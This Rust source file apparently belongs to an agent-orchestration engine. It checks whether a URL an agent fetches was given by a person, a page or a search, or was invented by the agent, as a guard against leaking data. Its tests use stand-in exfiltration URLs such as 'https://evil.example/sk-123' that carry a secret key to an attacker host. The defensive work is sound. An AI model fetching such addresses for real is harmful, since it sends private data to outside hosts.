//! Where an address comes from: whether somebody told it to the agents of a task, or an agent made it up. One that was made up could carry
//! private data to whoever owns the host; one that was found tells nothing but which of the found ones was chosen.
//!
//! Invariant: a pure function of the state and its texts. Text that an agent can write (files, outputs, messages, plans, its own arguments
//! come back) never counts as a source.
use crate::bodies::Bodies;
use crate::tools::ToolBox;
use maos_engine::event::CallOutcome;
use maos_engine::ids::Place;
use maos_engine::message::{Block, Reply};
use maos_engine::share::ASK_HUMAN;
use maos_engine::taint::Taint;
use maos_engine::task::{CallState, Task, ToolCall};
use serde_json::Value;

/// Most calls of the tool in one conversation until even a found address is asked about: each choice among many addresses tells a few bits.
const FOUND_MAX: usize = 64;

/// Whether the agent at a place may read an address with a tool without anybody being asked: it has been read before, or it stands in the
/// person's words, in a page, or in what a search found.
pub(crate) fn found(tools: &ToolBox, bodies: &Bodies, task: &Task, (place, tool): (&Place, &str), address: &str) -> bool {
    let forms = Forms::of(address);
    let turns = || task.runs.values().flat_map(|r| &r.turns).filter_map(|t| Some((t, t.paid.as_ref()?)));
    let own_words = [Some(&task.spec.description), task.spec.context.as_ref(), task.spec.constraints.as_ref()];
    let mut told = own_words.into_iter().flatten().any(|words| forms.within(words));
    for (turn, paid) in turns() {
        // Parsed only where something of it counts.
        let mut reply: Option<Option<Reply>> = None;
        let mut args = |call: &ToolCall| arguments(reply.get_or_insert_with(|| bodies.reply(&paid.reply)).as_ref()?, &call.id);
        for call in &turn.calls {
            let CallState::Settled { outcome, result, .. } = &call.state else { continue };
            if *outcome == CallOutcome::Done && call.name == ASK_HUMAN {
                told |= forms.within(bodies.get(result));
            }
            let Some(own) = tools.get(&call.name).filter(|t| t.nature().brings == Taint::UNTRUSTED) else { continue };
            let again = call.name == tool
                && *outcome == CallOutcome::Done
                && args(call).and_then(|a| own.outward(&a)).is_some_and(|o| o.address.as_deref() == Some(address));
            if again {
                return true;
            }
            // What a call was given may come back in its result: that is no find.
            let listed = !told && matches!(outcome, CallOutcome::Done | CallOutcome::Failed) && forms.within(bodies.get(result));
            told |= listed && args(call).is_some_and(|a| !forms.within_any(&a));
        }
        told |= !told && by_provider(bodies, &paid.reply, &forms);
    }
    let calls = task.runs.get(place).map_or(0, |run| run.turns.iter().flat_map(|t| &t.calls).filter(|c| c.name == tool).count());
    told && calls <= FOUND_MAX
}

/// What the provider's own search found, which stands in the reply itself.
fn by_provider(bodies: &Bodies, reply: &maos_engine::body::Body, forms: &Forms) -> bool {
    forms.within(bodies.get(reply))
        && bodies.reply(reply).is_some_and(|reply| {
            let results =
                |b: &Block| matches!(b, Block::Provider { block } if block["type"] == "web_search_tool_result" && forms.within_any(block));
            reply.content.iter().any(results)
        })
}

fn arguments(reply: &Reply, id: &str) -> Option<Value> {
    reply.content.iter().find_map(|b| match b {
        Block::ToolUse { id: own, input, .. } if own == id => Some(input.clone()),
        _ => None,
    })
}

/// The ways in which an address is written: without its scheme and a last slash, percent-encoded or not.
struct Forms([String; 2]);

impl Forms {
    fn of(address: &str) -> Self {
        let plain = address.split_once("://").map_or(address, |(_, rest)| rest);
        let plain = plain.strip_suffix('/').unwrap_or(plain);
        Self([plain.to_owned(), percent_encoding::percent_decode_str(plain).decode_utf8_lossy().into_owned()])
    }
    fn within(&self, text: &str) -> bool {
        self.0.iter().any(|form| text.match_indices(form.as_str()).any(|(at, _)| stands_alone(text, at, at + form.len())))
    }
    /// The same for all texts of a value.
    fn within_any(&self, value: &Value) -> bool {
        match value {
            Value::String(text) => self.within(text),
            Value::Array(all) => all.iter().any(|v| self.within_any(v)),
            Value::Object(all) => all.values().any(|v| self.within_any(v)),
            Value::Null | Value::Bool(_) | Value::Number(_) => false,
        }
    }
}

/// Whether what stands there is a whole address, and not a part of a longer one: one text has very many parts, and which of them is asked
/// for could tell a secret. A fragment belongs to no address, and a mark before a space ends a sentence.
fn stands_alone(text: &str, from: usize, to: usize) -> bool {
    let of_host = |c: char| c.is_alphanumeric() || matches!(c, '.' | '-' | '_' | '@');
    let of_address = |c: char| c.is_alphanumeric() || "-_~%/?:&=+$@*".contains(c);
    let ends = |rest: &str| match rest.trim_start_matches(['.', ',', ';', ':', '!', '?', '\'']).chars().next() {
        None => true,
        // Marks alone do not end it where it goes on behind them.
        Some(c) => !of_address(c),
    };
    let rest = &text[to..];
    !text[..from].ends_with(of_host) && (ends(rest) || rest.strip_prefix('/').is_some_and(ends))
}

#[cfg(test)]
mod tests {
    use super::*;
    use maos_egress::{Egress, Policy};
    use maos_engine::Time;
    use maos_engine::body::Body;
    use maos_engine::event::{AskedCall, Event, Repeat};
    use maos_engine::ids::{AgentId, EffectId, TaskId};
    use maos_engine::input::Traits;
    use maos_engine::message::{StopReason, Usage};
    use maos_engine::plan::{Plan, PlanSource};
    use maos_tools::Tool;
    use maos_tools::web::{SearchBackend, WebFetch, WebSearch};
    use serde_json::json;
    use std::sync::Arc;

    /// A task with one step, turn by turn.
    struct Talk {
        tools: ToolBox,
        task: Task,
        place: Place,
        turns: u32,
    }

    impl Talk {
        fn new(description: &str) -> Self {
            let egress = Egress::new(Policy::default()).unwrap();
            let search = WebSearch::new(SearchBackend::searxng("http://search.example/").unwrap(), egress.clone());
            let web: [Arc<dyn Tool>; 2] = [Arc::new(WebFetch::new(egress)), Arc::new(search)];
            let spec = serde_json::from_value(json!({"description": description, "priority": "NORMAL", "max_agents": 1})).unwrap();
            let plan = Plan::single(&spec);
            let place = Place::Step(plan.steps[0].id.clone());
            let mut this = Self {
                tools: ToolBox::of(web.into_iter().chain(maos_tools::files::tools())),
                task: Task::empty(TaskId::new("task_0000000001").unwrap()),
                place: place.clone(),
                turns: 0,
            };
            this.apply(Event::Submitted { spec: Box::new(spec) });
            this.apply(Event::PlanAccepted { plan: Box::new(plan), source: PlanSource::Single });
            let agent = AgentId::new("agent_coder_001").unwrap();
            this.apply(Event::RunStarted { place, agent, state_seen: 0, mail_seen: 0, traits: Traits::default() });
            this
        }

        fn apply(&mut self, event: Event) {
            self.task.apply(Time(1), &event);
        }

        fn says(&mut self, content: Value, calls: Vec<AskedCall>) {
            self.turns += 1;
            let effect = EffectId::model(self.place.clone(), self.turns);
            let (model, request) = ("m".to_owned(), "0".repeat(16));
            let asked = Event::ModelRequested {
                effect: effect.clone(),
                attempt: 1,
                model,
                request,
                reserved: None,
                not_before: Time(1),
                last: false,
                compact: false,
            };
            self.apply(asked);
            let reply = json!({"model": "m", "content": content, "stop": StopReason::ToolUse, "usage": Usage::default()});
            let reply = Body::Inline(serde_json::from_value::<Reply>(reply).map(|r| serde_json::to_string(&r).unwrap()).unwrap());
            let (usage, stop, taint) = (Usage::default(), StopReason::ToolUse, Taint::NONE);
            self.apply(Event::ModelReplied { effect, reply, calls, stop, usage, cost: None, sent_at: Time(1), taint });
        }

        /// A turn with one call, and how it ends.
        fn call(&mut self, name: &str, args: Value, outcome: CallOutcome, result: &str) {
            let content = serde_json::to_value([Block::ToolUse { id: "c".into(), name: name.into(), input: args }]).unwrap();
            self.says(content, vec![AskedCall { id: "c".into(), name: name.into(), signature: 0 }]);
            let effect = EffectId::tool(self.place.clone(), self.turns, "c");
            self.apply(Event::ToolRequested {
                effect: effect.clone(),
                name: name.into(),
                repeat: Repeat::Safe,
                writes: false,
                brings: Taint::NONE,
            });
            self.apply(Event::ToolSettled { effect, outcome, result: Body::Inline(result.into()), taint: Taint::NONE });
        }

        fn found(&self, address: &str) -> bool {
            found(&self.tools, &Bodies::default(), &self.task, (&self.place, "web_fetch"), address)
        }
    }

    #[test]
    fn what_somebody_told_is_found_and_what_an_agent_wrote_is_not() {
        let mut talk = Talk::new("Read example.org/given and tell me.");
        let key = "https://evil.example/sk-123";
        assert!(talk.found("https://example.org/given") && talk.found("https://example.org/given/") && !talk.found(key));
        talk.call(
            "web_fetch",
            json!({"url": "https://example.org/given"}),
            CallOutcome::Done,
            "see https://next.example/caf\u{e9} and more",
        );
        assert!(talk.found("https://next.example/caf%C3%A9"));
        talk.call("web_search", json!({"query": "rust"}), CallOutcome::Done, "1. A\n   http://found.example/a?b=c");
        assert!(talk.found("https://found.example/a?b=c"));
        // Files, and what comes back of an agent's own words.
        talk.call("read_file", json!({"path": "a"}), CallOutcome::Done, key);
        talk.call("web_search", json!({"query": key}), CallOutcome::Done, &format!("Results for: {key}"));
        talk.call("web_fetch", json!({"url": key}), CallOutcome::Refused, &format!("A person refused: {key}"));
        talk.call("ask_human", json!({"question": key}), CallOutcome::Refused, key);
        assert!(!talk.found(key));
        // Once a person agreed it is no news to that host.
        talk.call("web_fetch", json!({"url": key}), CallOutcome::Done, "a long page");
        assert!(talk.found(key));
    }

    #[test]
    fn a_part_of_an_address_is_not_found() {
        let told =
            "See https://a.example/docs/x-1?q=2#top, <https://b.example/y>. And \"https://c.example/z/\"; or https://d.example/v1.2.";
        let found = |address: &str| Forms::of(address).within(told);
        for whole in [
            "https://a.example/docs/x-1?q=2",
            "https://b.example/y",
            "https://c.example/z",
            "http://c.example/z/",
            "https://d.example/v1.2",
        ] {
            assert!(found(whole), "{whole}");
        }
        for part in [
            "https://a.example/docs/x-1",
            "https://a.example/docs",
            "https://a.example/d",
            "https://example/docs/x-1?q=2",
            "https://d.example/v1",
            "https://d.example/v",
        ] {
            assert!(!found(part), "{part}");
        }
    }

    #[test]
    fn a_persons_answer_and_the_providers_search_are_sources() {
        let mut talk = Talk::new("Find out.");
        talk.call("ask_human", json!({"question": "Where?"}), CallOutcome::Done, "at https://example.org/there");
        assert!(talk.found("https://example.org/there"));
        let block = |kind: &str, url: &str| json!({"type": "provider", "block": {"type": kind, "content": [{"url": url}]}});
        talk.says(
            json!([block("web_search_tool_result", "https://example.org/searched"), block("server_tool_use", "https://evil.example/sk")]),
            vec![],
        );
        assert!(talk.found("https://example.org/searched") && !talk.found("https://evil.example/sk"));
    }

    #[test]
    fn of_many_found_addresses_each_is_asked_about_in_the_end() {
        let mut talk = Talk::new("Read https://example.org/a and https://example.org/b");
        for _ in 0..FOUND_MAX {
            talk.call("web_fetch", json!({"url": "https://example.org/a"}), CallOutcome::Done, "a page");
        }
        assert!(talk.found("https://example.org/b"));
        talk.call("web_fetch", json!({"url": "https://example.org/a"}), CallOutcome::Done, "a page");
        assert!(!talk.found("https://example.org/b") && talk.found("https://example.org/a"));
    }
}
